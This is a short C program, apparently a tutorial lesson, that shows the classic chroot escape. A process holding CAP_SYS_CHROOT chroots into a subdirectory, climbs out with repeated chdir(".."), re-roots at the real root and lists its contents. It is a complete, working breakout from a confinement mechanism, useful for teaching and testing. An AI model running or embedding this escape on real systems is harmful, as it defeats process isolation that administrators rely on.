/* Lesson 5: out of a chroot, with nothing but CAP_SYS_CHROOT. Build it with -static. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("/tmp/below", 0700); /* it may be there already */
    if (chdir("/") != 0 || chroot("/tmp/below") != 0) { /* our cwd is outside of our root now */
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 64; ++i) /* ".." of the real root is itself */
        if (chdir("..") != 0)
            return 1;
    if (chroot(".") != 0)
        return 1;

    DIR *root = opendir("/");
    for (struct dirent *entry; root && (entry = readdir(root));)
        puts(entry->d_name);
    return root ? 0 : 1;
}
